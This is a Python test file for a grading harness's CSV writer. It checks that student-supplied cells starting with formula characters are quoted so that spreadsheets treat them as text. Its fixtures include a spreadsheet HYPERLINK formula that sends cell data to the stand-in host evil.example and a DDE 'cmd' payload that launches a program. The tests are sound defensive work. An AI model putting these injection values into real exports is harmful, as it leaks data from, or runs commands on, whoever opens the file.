"""Issue 56, part B: what a box shows (only the student's own copy, the system and the toolchain),
what its environment and command line give away, and what the grader writes out (CSV cells a
student controls, the class folder's absolute path under OUT/students/)."""
import csv
import io

from harness.view import csv_out


def read_csv(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_get_a_quote_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "out.csv"
    rows = [{"name": '=HYPERLINK("http://evil.example/?"&A2,"open")', "n": 3},
            {"name": "+1", "n": -3},
            {"name": "@x", "n": 2.5},
            {"name": "-2+3+cmd|' /C calc'!A0", "n": "-3"},
            {"name": "\tx", "n": "2.50"},
            {"name": "\r=1", "n": None},
            {"name": "plain, \"quoted\"", "n": "-0.125"},
            {"name": "-", "n": "1e5"}]
    csv_out.write_csv(str(path), ["name", "n"], rows)
    got = read_csv(path)
    assert [r["name"] for r in got] == ['\'=HYPERLINK("http://evil.example/?"&A2,"open")', "'+1", "'@x",
                                        "'-2+3+cmd|' /C calc'!A0", "'\tx", "'\r=1", "plain, \"quoted\"", "'-"]
    assert [r["n"] for r in got] == ["3", "-3", "2.5", "-3", "2.50", "", "-0.125", "1e5"]


def test_a_row_with_a_field_not_in_the_header_is_refused(tmp_path):
    try:
        csv_out.write_csv(str(tmp_path / "x.csv"), ["a"], [{"a": 1, "b": 2}])
    except ValueError as exc:
        assert "b" in str(exc)
    else:
        raise AssertionError("an unknown field was written")


def test_cell_keeps_bools_as_text():
    assert csv_out.cell(True) == "True"
    assert csv_out.cell(-7) == -7
    assert csv_out.cell("-7x") == "'-7x"
    out = io.StringIO()
    csv.writer(out).writerow([csv_out.cell("=1+1")])
    assert out.getvalue() == "'=1+1\r\n"
